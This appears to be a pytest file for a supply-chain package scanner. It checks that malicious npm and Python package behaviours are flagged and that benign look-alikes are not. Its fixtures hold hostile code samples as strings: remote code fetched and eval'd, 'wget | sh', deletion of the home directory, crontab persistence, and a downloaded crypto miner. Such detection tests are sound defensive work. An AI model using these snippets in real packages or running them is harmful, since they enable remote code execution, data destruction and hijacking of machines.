"""Dangerous ways through the code, and what only looks like them."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest

from adapters.sigil.local.code.facts import Behaviour, Fact, Flow
from adapters.sigil.local.material import Ecosystem
from adapters.sigil.local.phases.code_patterns import code_patterns
from adapters.sigil.models import PhaseName, Severity

_NPM = {
    "download-and-run": "require('axios').get('https://api.npoint.io/abc').then(answer => eval(answer.data.code))",
    "command-downloads-and-runs": "require('child_process').exec('wget -qO- https://x.example.invalid/a | sh')",
    "wide-deletion": "require('fs').rmSync(require('os').homedir(), {recursive: true, force: true})",
}
_PYTHON = {
    "persistence": "import os\nos.system('(crontab -l; echo \"* * * * * /tmp/a\") | crontab -')\n",
    "download-and-run": "import requests\nexec(requests.get('https://x.example.invalid/a').text)\n",
    "cryptocurrency-miner": (
        "import os, subprocess, urllib.request\n"
        "urllib.request.urlretrieve('https://files.example.invalid/m', '/tmp/.m')\nos.chmod('/tmp/.m', 0o755)\n"
        "subprocess.Popen(['/tmp/.m', '-o', 'stratum+tcp://pool.example.invalid:3333'])\n"
    ),
}
_TWINS = {
    "fetches and parses": "require('axios').get('https://x.invalid').then(a => JSON.parse(a.data))",
    "runs a template": "module.exports = (text) => new Function('data', 'return `' + text + '`')",
    "runs a fixed command": "exports.version = () => require('child_process').execSync('git rev-parse HEAD')",
    "deletes its own folder": "require('fs').rmSync(require('path').join(__dirname, 'build'), {recursive: true})",
    "downloads when asked": (
        "const fs = require('fs'), https = require('https');\n"
        "exports.fetch = (url, to) => https.get(url, answer => answer.pipe(fs.createWriteStream(to)))"
    ),
}


def npm(code: str) -> dict[str, Any]:
    return {"package.json": {"name": "sample", "main": "index.js"}, "index.js": code}


@pytest.mark.parametrize("rule", _NPM)
def test_finds_attack_in_javascript(pack: Any, outcome: Any, rule: str) -> None:
    """Each attack is found by its rule when a package is required, and is HIGH_RISK by itself."""
    result = outcome(pack(npm(_NPM[rule])))

    assert rule in result.rules(PhaseName.CODE_PATTERNS)
    assert result.dangerous


@pytest.mark.parametrize("rule", _PYTHON)
def test_finds_attack_in_python(pack: Any, outcome: Any, rule: str) -> None:
    """Each attack is found by its rule when a package is imported, and is HIGH_RISK by itself."""
    result = outcome(pack({"sample/__init__.py": _PYTHON[rule]}, Ecosystem.PYPI, "sample-1.0-py3-none-any.whl"))

    assert rule in result.rules(PhaseName.CODE_PATTERNS)
    assert result.dangerous


@pytest.mark.parametrize("twin", _TWINS)
def test_twins_are_not_dangerous(pack: Any, outcome: Any, twin: str) -> None:
    """What honest packages do in a similar way is at most a hint."""
    assert outcome(pack(npm(_TWINS[twin]))).score < 10


def test_moment_decides(made: Any, fact: Callable[..., Fact]) -> None:
    """What is critical when it happens by itself is a hint where somebody has to call it, and less in a test."""

    def severity(path: str, *, at_load: bool) -> Severity:
        findings = code_patterns(made({path: (fact(Behaviour.WRITES_STARTUP, "/etc/cron.d/a", at_load=at_load),)}))
        return findings[0].severity

    assert severity("index.js", at_load=True) is Severity.CRITICAL
    assert severity("index.js", at_load=False) is Severity.LOW
    assert severity("test/index.js", at_load=True) is Severity.LOW


def test_worm_needs_a_token(made: Any, fact: Callable[..., Fact]) -> None:
    """Publishing packages at load is critical in a file that reads secrets, and doubtful without."""
    publishes, reads = fact(Behaviour.CHANGES_PACKAGES, "npm publish"), fact(Behaviour.READS_SECRET_FILE, "~/.npmrc")

    assert code_patterns(made({"index.js": (publishes, reads)}))[0].severity is Severity.CRITICAL
    assert code_patterns(made({"index.js": (publishes,)}))[0].severity is Severity.MEDIUM


def test_payload_that_is_put_where_it_starts(made: Any, fact: Callable[..., Fact]) -> None:
    """What is downloaded and put into a start-up folder is found even where somebody has to call it."""
    flow = Flow(
        source=fact(Behaviour.DOWNLOADS, "https://x.example.invalid", at_load=False),
        sink=fact(Behaviour.WRITES_STARTUP, "~/.config/autostart/a.desktop", 2, at_load=False),
    )

    findings = code_patterns(made({"index.js": (flow,)}))

    assert ("payload-persistence", Severity.HIGH) in [(each.rule, each.severity) for each in findings]
